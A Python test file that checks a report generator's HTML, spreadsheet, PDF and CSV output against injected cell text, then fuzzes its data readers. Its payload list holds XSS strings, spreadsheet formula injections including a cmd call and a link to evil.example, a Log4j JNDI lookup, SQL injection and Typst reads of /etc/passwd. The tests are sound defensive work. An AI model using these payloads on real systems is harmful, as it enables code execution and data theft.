"""What a cell holds is never code: hostile texts in every text column of every table, in every format."""

from __future__ import annotations

import csv
import io
import itertools
import os
import shutil
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup, SoupStrainer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from chromium import launched
from examples import few
from vomr.method.results import compute
from vomr.pack.build import Pack, make_pack
from vomr.pack.request import Request
from vomr.period import Period
from vomr.problems import VomrError
from vomr.register import TABLES, Type, read_register
from vomr.register.commentary import read_commentary

PROJECT = Path(__file__).parents[2]
RAN = "document.documentElement.dataset.ran=1"
HOSTILE = (
    f"<script>{RAN}</script>",
    f'"><img src=x onerror="{RAN}">',
    f"</td></table></main><svg onload={RAN}>",
    f"'><iframe srcdoc='<script>parent.{RAN}</script>'>",
    f'<a href="javascript:{RAN}">натисни</a>',
    f"[натисни](javascript:{RAN})",
    "![](file:///etc/passwd)",
    "<style>body{display:none}</style>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    '#read("/etc/passwd")',
    '#panic("typst")',
    '#image("/etc/passwd")',
    '$ x^ #eval("1") $ ]) }',
    "*получер* _курсив_ `код` \\ @ref <label> // край",
    '#import "@preview/x:1.0.0"',
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "{{ 7*7 }} {% raw %}",
    "{n} {day} {value!r} {0.__class__}",
    "%s %n %(x)d",
    "${jndi:ldap://evil.example}",
    "\u202eгръб\u202c",
    "a\u200bb\u00ad\ufeff",
    "'; DROP TABLE projects; --",
    "много " * 60,
)


# where most of what people type is shown; all parts are a soak test
OF_TEXTS = ("overview", "absorption", "outcomes", "partnership", "quality")


@pytest.fixture(scope="module", params=[OF_TEXTS, pytest.param((), marks=pytest.mark.soak)], ids=["few", "all"])
def hostile(request, tmp_path_factory) -> Pack:
    """The invented group with a hostile text in every text cell that is no key, no reference and no code."""
    base = tmp_path_factory.mktemp("hostile")
    shutil.copytree(PROJECT / "data" / "primer", base / "s")
    texts = itertools.cycle(HOSTILE)
    for path in sorted((base / "s").glob("*.csv")):
        table = TABLES[path.stem]
        with path.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.DictReader(stream))
        columns = list(dict.fromkeys([*rows[0], *(column.name for column in table.columns)]))
        free = [
            column.name
            for column in table.columns
            if column.type is Type.TEXT
            and not column.key
            and not column.references
            and column.name not in ("applicant_id", "unit_key", "municipality", "key", "table", "column", "was", "now")
        ]
        for row in rows if path.stem != "corrections" else []:
            row.update({name: next(texts) for name in free})
        with path.open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, columns)
            writer.writeheader()
            writer.writerows(rows)
    (base / "s" / "commentary" / "2028-Q2.md").write_text(
        "".join(
            f"# {part}\n\n" + "\n\n".join(HOSTILE) + "\n\n"
            for part in ("overview", "absorption", "quality", "Обобщен преглед")
        ),
        encoding="utf-8",
    )
    toml = (base / "s" / "strategy.toml").read_text(encoding="utf-8")
    name = next(line for line in toml.splitlines() if line.startswith("name ="))
    evil = HOSTILE[0] + HOSTILE[11] + "{n}"
    (base / "s" / "strategy.toml").write_text(toml.replace(name, f"name = '''{evil}'''", 1), encoding="utf-8")
    return make_pack(Request(base / "s", "2028-Q2", only=request.param, out=base / "out", formats=("html", "xlsx")))


@pytest.fixture(scope="module")
def on_paper(hostile) -> Pack:
    """The documents of the parts that show most of what is typed."""
    folder = hostile.folder.parents[2]
    return make_pack(
        Request(folder / "s", "2028-Q2", out=folder / "paper", only=("overview", "outcomes"), formats=("pdf",))
    )


def test_pages_hold_texts_and_nothing_that_runs(hostile, primer):
    for path in hostile.folder.glob("*.html"):
        page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        plain = (primer.folder / path.name).read_text(encoding="utf-8")
        known = BeautifulSoup(plain, "html.parser", parse_only=SoupStrainer("script")).find_all("script")
        assert [str(script) for script in page.find_all("script")] == [str(script) for script in known], path.name
        for tag in page.find_all(True):
            assert tag.name not in ("iframe", "object", "embed", "base", "form"), (path.name, tag.name)
            for name, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                assert not name.lower().startswith("on"), (path.name, tag.name, name)
                if name in ("href", "src", "action", "xlink:href"):
                    assert not text.strip().lower().startswith(("javascript:", "file:", "http://evil")), (
                        path.name,
                        text[:80],
                    )
    text = BeautifulSoup((hostile.folder / "outcomes.html").read_text(encoding="utf-8"), "html.parser").get_text()
    assert HOSTILE[0] in text, "what was typed is shown as it was typed"


def test_no_script_runs_in_a_browser(hostile):
    with launched("--disable-background-networking") as browser:
        page = browser.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        for path in sorted(hostile.folder.glob("*.html")):
            page.goto(path.as_uri())
            page.evaluate(
                "document.querySelectorAll('main a, main details, main img').forEach(one => one.dispatchEvent(new"
                " Event('mouseover')))"
            )
            page.wait_for_timeout(50)
            assert page.evaluate("document.documentElement.dataset.ran") is None, path.name
            assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert [url for url in asked if not url.startswith(("file:", "data:")) or "passwd" in url] == []


@pytest.mark.soak
def test_documents_print_the_texts(on_paper):
    pages = (page for part in on_paper.parts for page in PdfReader(on_paper.folder / f"{part}.pdf").pages)
    text = "".join(page.extract_text() for page in pages)
    assert "root:" not in text, "no file of this machine is read"
    tight = "".join(text.split()).replace("\u200b", "").replace("\u00ad", "")
    for sample in ('#read("/etc/passwd")', '#panic("typst")', "=1+1", "{{7*7}}", "<script>"):
        assert sample.replace(" ", "") in tight, sample


def test_workbook_and_open_data_hold_no_formula(hostile):
    book = openpyxl.load_workbook(hostile.folder / "annex.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert cell.hyperlink is None or cell.hyperlink.location, (sheet.title, cell.coordinate)
    for path in (hostile.folder / "data").glob("*.csv"):
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert (
                    not cell.startswith("-") or cell[1:].replace(".", "").replace("e", "").replace("-", "").isdigit()
                ), (path.name, cell)


# --- readers
# ------------------------------------------------------------------------------------------------------------

_CELLS = st.one_of(
    st.sampled_from(
        [
            "",
            "EUR",
            "BGN",
            "да",
            "2026-13-45",
            "31.02.2026",
            "1 234,56",
            "-0",
            "1e400",
            "NaN",
            "#REF!",
            "9" * 60,
            "٣",
            "\u22121",
            *HOSTILE,
        ]
    ),
    st.text(max_size=12),
    st.integers(-(10**20), 10**20).map(str),
    st.dates().map(str),
    st.floats().map(str),
)


def _outcome(folder: Path) -> None:
    """A result or a clear error, and nothing else."""
    try:
        register = read_register(folder)
        read_commentary(folder, "2026-Q3")
        results = compute(register, Period.parse("2026-Q3"))
    except VomrError as error:
        assert str(error)
        return
    from vomr.words import Words

    results.to_json(Words("bg"))


def _tables(draw) -> dict[str, bytes]:
    found = {}
    for table in draw(
        st.lists(st.sampled_from(list(TABLES.values())), min_size=1, max_size=3, unique_by=lambda one: one.name)
    ):
        names = [column.name for column in table.columns]
        rows = draw(st.lists(st.lists(_CELLS, min_size=len(names), max_size=len(names) + 1), max_size=4))
        found[table.name] = "\n".join(
            ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row) for row in [names, *rows]
        )
    return {name: text.encode("utf-8", "surrogatepass") for name, text in found.items()}


tables_of_anything = st.composite(_tables)()


def _fuzz(base: Path, examples: int) -> None:
    folder = Path(shutil.copytree(PROJECT / "data" / "nevestino", base / "s", dirs_exist_ok=True))
    toml = (folder / "strategy.toml").read_bytes()
    workbook = _workbook(folder)
    common = settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )

    @common
    @given(tables_of_anything)
    def tables(found):
        for name, content in found.items():
            (folder / f"{name}.csv").write_bytes(content)
        try:
            _outcome(folder)
        finally:
            for name in found:
                shipped = PROJECT / "data" / "nevestino" / f"{name}.csv"
                (
                    (folder / f"{name}.csv").write_bytes(shipped.read_bytes())
                    if shipped.is_file()
                    else (folder / f"{name}.csv").unlink()
                )

    @common
    @given(
        st.sampled_from(
            [
                "budget.csv",
                "events.csv",
                "commentary/2026-Q3.md",
                "strategy.toml",
                "register.xlsx",
                "register.xls",
                "register.ods",
            ]
        ),
        st.binary(max_size=300),
    )
    def bytes_of_anything(name, content):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        before = path.read_bytes() if path.is_file() else None
        path.write_bytes(content)
        try:
            _outcome(folder)
        finally:
            path.unlink() if before is None else path.write_bytes(before)

    @common
    @given(
        st.sampled_from([("strategy.toml", toml), ("register.xlsx", workbook)]),
        st.lists(st.tuples(st.integers(0, 10**6), st.binary(max_size=6)), min_size=1, max_size=4),
    )
    def damaged(file, wounds):
        name, whole = file
        content = bytearray(whole)
        for place, patch in wounds:
            at = place % len(content)
            content[at : at + len(patch)] = patch
        lone = folder.parent / "lone"
        shutil.rmtree(lone, ignore_errors=True)
        lone.mkdir()
        (lone / "strategy.toml").write_bytes(toml)
        (lone / name).write_bytes(bytes(content))
        _outcome(lone)

    for part in (tables, bytes_of_anything, damaged):
        part()


def _workbook(folder: Path) -> bytes:
    book = openpyxl.Workbook()
    for path in sorted(folder.glob("*.csv")):
        sheet = book.create_sheet(TABLES[path.stem].bg[:31])
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
            sheet.append(row)
    target = folder.parent / "whole.xlsx"
    book.save(target)
    return target.read_bytes()


def test_readers_give_a_result_or_a_clear_error(tmp_path):
    _fuzz(tmp_path, few(4))


@pytest.mark.parametrize("mark", [b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06", b"<sst", b"<styleSheet"], ids=repr)
def test_a_workbook_damaged_in_its_bones_is_refused_by_name_or_read(tmp_path, mark):
    """The list of its parts, a part's head, the end; shared texts and styles, which the reader of cells may forgive."""
    (tmp_path / "made").mkdir()
    for name in ("projects.csv", "payments.csv"):
        shutil.copy(PROJECT / "data" / "primer" / name, tmp_path / "made")
    group = tmp_path / "group"
    group.mkdir()
    shutil.copy(PROJECT / "data" / "primer" / "strategy.toml", group)
    whole = _workbook(tmp_path / "made")
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(group / "register.xlsx", "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(mark, b"<" if mark[:1] == b"<" else mark))
    if mark.startswith(b"PK"):
        content = (group / "register.xlsx").read_bytes()
        (group / "register.xlsx").write_bytes(content.replace(mark, b"PK\x00\x00"))
    _outcome(group)


@pytest.mark.soak
def test_readers_for_an_hour(tmp_path):
    end = time.monotonic() + float(os.environ.get("VOMR_FUZZ_SECONDS", "3600"))
    while time.monotonic() < end:
        _fuzz(tmp_path, 300)
